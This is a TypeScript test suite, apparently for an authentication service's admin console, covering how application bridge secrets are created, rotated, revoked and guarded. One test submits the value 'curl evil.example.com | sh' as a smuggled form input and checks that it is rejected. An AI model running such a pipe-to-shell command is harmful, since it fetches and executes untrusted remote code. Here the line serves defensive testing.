import assert from 'node:assert/strict'
import { readFile } from 'node:fs/promises'
import { after, before, test } from 'node:test'
import { day, hour } from '../../src/lib/time.ts'
import { applicationProblems } from '../../src/screens/console/applications/problems.ts'
import { offeredRights } from '../../src/screens/console/applications/secrets/form-values.ts'
import { textOf } from '../screens/all-pages.ts'
import { staffOf } from '../screens/console/support.ts'
import { withSession } from '../support/people.ts'
import { type Reply, startTestApp, type TestApp } from '../support/test-app.ts'
import { secretsOf, superadminOf } from './support.ts'

let app: TestApp
before(async () => {
  app = await startTestApp({ env: { RATE_LIMIT_ADMIN: '100000/1h', RATE_LIMIT_READ: '100000/1m' } })
})
after(() => app.stop())

const words = ({ text }: Reply) => textOf(text).replaceAll(/\s+/g, ' ')
const pageOf = (id: string) => `/admin/applications/${id}`
const secretIn = ({ text }: Reply): string | undefined => /wbs_[0-9A-Za-z]{49}\b/.exec(text)?.[0]

/** An application, and a superadmin with a browser. */
async function withApplication(key: string, input: object = {}) {
  const root = await staffOf(app, 'superadmin')
  const { id } = await (await superadminOf(app)).create(key, input)
  return { root, id, page: pageOf(id), secrets: `${pageOf(id)}/secrets` }
}

/** Creates a secret on the page with the files, which also has a form that selects what is shown. */
async function createOnPage(
  root: Awaited<ReturnType<typeof staffOf>>,
  connect: string,
  recipe: string,
  fields: Record<string, string> = {},
) {
  const { text } = await root.open(`${connect}?with=${recipe}`)
  const [, form_token = ''] =
    new RegExp(`method="post" action="${connect}">\\s*<input[^>]* value="([^"]+)"`).exec(text) ?? []
  return root.send(connect, { with: recipe, form_token, ...fields })
}

/** Whether a back end with this secret is served. */
const isAccepted = async (secret: string | undefined): Promise<boolean> => {
  const body = { sessionId: 'unknown' }
  const { json } = await app.post('/auth/bridge/validate', body, { headers: { 'x-bridge-secret': `${secret}` } })
  return json.code !== 'BRIDGE_SECRET_REQUIRED'
}

test('a new secret is shown once, in the response to the form', async () => {
  const { root, page, secrets } = await withApplication('once')
  assert.match((await root.open(page)).text, new RegExp(`href="${secrets}"`))
  assert.match(words(await root.open(secrets)), /Bridge secrets of once .* has no secret of its own/)
  const created = await root.send(secrets, {
    right_sessions: 'on',
    right_users: 'on',
    ip_ranges: '0.0.0.0/0\r\n 10.0.0.0/8 ',
    ends_in: '30',
  })
  assert.equal(created.status, 200)
  assert.equal(created.headers['cache-control'], 'no-store')
  assert.equal(created.headers.location, undefined)
  const secret = secretIn(created)
  assert.ok(secret)
  assert.ok(await isAccepted(secret))
  assert.match(words(created), /can’t be shown again.*Read and register users.*0\.0\.0\.0\/0, 10\.0\.0\.0\/8/)
  const shown = await root.open(secrets)
  for (const other of [shown, await root.open(page), await root.open('/admin/audit')])
    assert.equal(secretIn(other), undefined)
  assert.match(words(shown), new RegExp(`${secret.slice(0, 12)}….*Not used yet`))
  const [stored] = await app.ctx.db.selectFrom('application_secrets').selectAll().execute()
  const ends = (stored?.ends_at?.getTime() ?? 0) - app.ctx.clock.now()
  assert.ok(Math.abs(ends - 30 * day) < hour)
})

test('a rotated secret works until the chosen end, and a revoked one ends at once', async () => {
  const { root, secrets } = await withApplication('turned')
  await root.open(secrets)
  const first = secretIn(await root.send(secrets, { right_sessions: 'on', ends_in: '' }))
  const idOf = ({ text }: Reply) => /name="secret_id" value="([^"]+)"/.exec(text)?.[1] ?? ''
  const act = async (action: string, more: object = {}) => {
    const secret_id = idOf(await root.open(secrets))
    return root.send(`${secrets}/act`, { action, secret_id, ...more })
  }
  const second = secretIn(await act('rotate', { overlap: '3600' }))
  assert.ok(second && second !== first)
  assert.deepEqual([await isAccepted(first), await isAccepted(second)], [true, true])
  const full = await root.open(secrets)
  assert.match(words(full), /two secrets at most/)
  assert.doesNotMatch(full.text, /<h2>Create a secret/)
  const rejected = await act('rotate', { overlap: '3600' })
  assert.deepEqual([rejected.status, secretIn(rejected)], [400, undefined])
  assert.match(words(rejected), /has two secrets, which is the maximum/i)
  const revoked = await act('revoke')
  assert.equal(revoked.headers.location, `${secrets}?done=revoked`)
  assert.match(words(await root.open(`${secrets}?done=revoked`)), /The secret was revoked\./)
  assert.deepEqual([await isAccepted(first), await isAccepted(second)], [false, true])
  const third = secretIn(await act('rotate', { overlap: '0' }))
  assert.deepEqual([await isAccepted(second), await isAccepted(third)], [false, true])
  assert.equal((await act('toString')).headers.location, secrets)
})

test('rejected entries are explained and stay in the form', async () => {
  const { root, id, secrets } = await withApplication('wrong')
  for (const [entries, problem] of [
    [{ ip_ranges: 'nowhere' }, /Must contain networks such as 10\.0\.0\.0\/8/],
    [{ ip_ranges: '10.0.0.0/8\r\n'.repeat(21) }, /./],
    [{ right_sessions: undefined }, /Must contain at least one right/],
    [{ form_token: 'forged' }, /./],
  ] as const) {
    await root.open(secrets)
    const typed = Object.entries({ right_sessions: 'on', ip_ranges: '10.1.0.0/16', ends_in: '90', ...entries })
    const rejected = await root.send(
      secrets,
      Object.fromEntries(typed.flatMap(([name, value]) => (value === undefined ? [] : [[name, value]]))),
    )
    assert.equal(rejected.status, 400, JSON.stringify(entries))
    assert.match(words(rejected), problem)
    assert.match(rejected.text, /<option value="90" selected/)
  }
  const { call } = await superadminOf(app)
  assert.deepEqual((await call('GET', `/${id}/secrets`)).json.data.secrets, [])
  const api = await superadminOf(app)
  const own = await secretsOf(api, 'wrong-es')
  await own.create()
  await own.create()
  for (const input of [{ rights: [] }, { ip_ranges: ['x'] }, { ip_ranges: ['x'.repeat(51)] }, {}]) {
    const { json } = await own.call('POST', '', input)
    const text = Object.values(applicationProblems('es', json).fields).join()
    assert.doesNotMatch(text, /^(Must|Has|$)/, JSON.stringify(json.details))
  }
})

test('what a secret allows is changed in the console, and only changed members are sent', async () => {
  const { root, id, secrets } = await withApplication('changed')
  await root.open(secrets)
  const secret = secretIn(await root.send(secrets, { right_sessions: 'on', ip_ranges: '0.0.0.0/0', ends_in: '30' }))
  const { call } = await superadminOf(app)
  const stored = async () => (await call('GET', `/${id}/secrets`)).json.data.secrets[0]
  const before = await stored()
  const change = async (fields: Record<string, string>) => {
    await root.open(secrets)
    return root.send(`${secrets}/act`, { action: 'change', secret_id: before.id, ...fields })
  }
  const shown = await root.open(secrets)
  assert.match(
    shown.text,
    /<option value="unchanged" selected>As now: \w+ \d+, \d+|<option value="unchanged" selected>As now: \d+/,
  )
  assert.match(shown.text, /0\.0\.0\.0\/0<\/textarea>/)
  const narrowed = await change({ right_sessions: 'on', ip_ranges: '10.99.0.0/16', ends_in: 'unchanged' })
  assert.equal(narrowed.headers.location, `${secrets}?done=changed`)
  assert.match(words(await root.open(`${secrets}?done=changed`)), /The secret was changed\./)
  assert.deepEqual(await stored(), { ...before, ip_ranges: ['10.99.0.0/16'] })
  assert.equal(await isAccepted(secret), false)
  await change({ right_sessions: 'on', right_users: 'on', ip_ranges: '', ends_in: '' })
  const { rights, ip_ranges, ends_at } = await stored()
  assert.deepEqual([rights, ip_ranges, ends_at], [['sessions', 'users'], [], null])
  assert.equal(await isAccepted(secret), true)
  const rejected = await change({ right_users: 'on', ip_ranges: 'nowhere', ends_in: '90' })
  assert.equal(rejected.status, 400)
  assert.match(rejected.text, /<details class="filters" open>/)
  assert.match(words(rejected), /Must contain networks such as 10\.0\.0\.0\/8/)
  assert.match(rejected.text, /<option value="90" selected/)
  assert.equal((await change({ ip_ranges: '', ends_in: 'unchanged' })).status, 400)
})

test('only rights with an effect are offered, and a secret keeps the others that it has', async () => {
  const { paths } = JSON.parse(await readFile('openapi.json', 'utf8'))
  const routes = Object.values<Record<string, Record<string, unknown>>>(paths).flatMap((path) => Object.values(path))
  const required = new Set(routes.flatMap((route) => route['x-bridge-right'] ?? []))
  for (const right of required)
    assert.ok(
      offeredRights().some((offered) => offered === right),
      `${right} is not offered`,
    )
  const { root, id, secrets } = await withApplication('offered')
  const { call } = await superadminOf(app)
  assert.doesNotMatch((await root.open(secrets)).text, /right_events/)
  await call('POST', `/${id}/secrets`, { rights: ['sessions', 'events'] })
  assert.match((await root.open(secrets)).text, /name="right_events" checked/)
})

test('secrets are for superadmins with recent authentication, and a form is for one application', async () => {
  const { root, id, page, secrets } = await withApplication('guarded', {
    return_addresses: ['https://guarded.example.com'],
  })
  const other = await withApplication('guarded-other')
  const staff = await staffOf(app, 'admin')
  for (const path of [secrets, `${page}/rejections`, '/admin/applications/rejections'])
    assert.equal((await staff.open(path)).status, 403, path)
  const { text } = await root.open(secrets)
  const [, form_token = ''] = /name="form_token" value="([^"]+)"(?=[\s\S]{0,80}<h2>Create)/.exec(text) ?? []
  assert.equal((await root.send(other.secrets, { right_sessions: 'on', form_token })).status, 400)
  await root.open(secrets)
  await root.send(secrets, { right_sessions: 'on' })
  const own = withSession(root.sessionToken)
  const listed = () => app.get(`/auth/admin/applications/${id}/secrets`, own)
  const [secret] = (await listed()).json.data.secrets
  app.clock.advance(2 * hour)
  for (const [path, entries] of [
    [secrets, { right_sessions: 'on' }],
    [`${secrets}/act`, { action: 'rotate', secret_id: secret.id, overlap: '0' }],
    [`${secrets}/act`, { action: 'revoke', secret_id: secret.id }],
    [`${secrets}/act`, { action: 'change', secret_id: secret.id, right_sessions: 'on', ends_in: '' }],
  ] as const) {
    await root.open(secrets)
    const stale = await root.send(path, entries)
    assert.deepEqual([stale.status, secretIn(stale)], [403, undefined], path)
    assert.match(stale.text, /href="\/account\/confirm/, path)
  }
  const stale = await createOnPage(root, `${page}/connect`, 'express')
  assert.deepEqual([stale.status, secretIn(stale)], [403, undefined])
  assert.deepEqual(
    (await listed()).json.data.secrets.map((one: { id: string }) => one.id),
    [secret.id],
  )
})

test('the page with the files creates a secret and shows it in the files once', async () => {
  const address = 'https://files.example.com'
  const { root, page, secrets } = await withApplication('files', { return_addresses: [address] })
  const connect = `${page}/connect`
  for (const [recipe, pattern] of [
    ['express', /BRIDGE_SECRET=(wbs_\w{49}) \\/],
    ['nginx', /X-Bridge-Secret "(wbs_\w{49})"/],
  ] as const) {
    const before = await root.open(`${connect}?with=${recipe}`)
    assert.match(textOf(before.text), /paste-the-bridge-secret|YOUR_BRIDGE_SECRET/)
    const created = await createOnPage(root, connect, recipe)
    assert.deepEqual([created.status, created.headers['cache-control']], [200, 'no-store'])
    const [, secret] = pattern.exec(textOf(created.text)) ?? []
    assert.ok(await isAccepted(secret), recipe)
    assert.doesNotMatch(textOf(created.text), /paste-the-bridge-secret|YOUR_BRIDGE_SECRET"/)
    assert.equal(secretIn(await root.open(`${connect}?with=${recipe}`)), undefined)
  }
  const full = await createOnPage(root, connect, 'express')
  assert.deepEqual([full.status, secretIn(full)], [400, undefined])
  assert.match(full.text, new RegExp(`href="${secrets}"`))
  assert.doesNotMatch((await root.open(`${connect}?with=single_page`)).text, /Create a bridge secret/)
})

test('selecting something else on the page with the files keeps a new secret, but shows no other text', async () => {
  const { root, id, page } = await withApplication('kept', { return_addresses: ['https://kept.example.com'] })
  const connect = `${page}/connect`
  const secret = secretIn(await createOnPage(root, connect, 'express'))
  const other = await root.send(connect, { with: 'nginx' })
  assert.equal(other.status, 200)
  assert.match(textOf(other.text), new RegExp(`X-Bridge-Secret "${secret}"`))
  assert.equal((await (await superadminOf(app)).call('GET', `/${id}/secrets`)).json.data.secrets.length, 1)
  const foreign = await secretsOf(await superadminOf(app), 'kept-other')
  for (const fields of [
    { secret: (await foreign.create()).secret },
    { secret: 'curl evil.example.com | sh' },
    { secret: `${secret}`, form_token: 'forged' },
  ]) {
    const rejected = await createOnPage(root, connect, 'nginx', fields)
    assert.equal(rejected.headers.location, `${connect}?with=nginx`)
  }
})

test('a deleted application has no page of secrets', async () => {
  const { root, page, secrets } = await withApplication('gone')
  await root.open(`${page}/delete`)
  await root.send(`${page}/act`, { action: 'delete' })
  assert.equal((await root.open(secrets)).headers.location, page)
  assert.equal((await root.open(`${pageOf('no-such-id')}/secrets`)).status, 404)
})
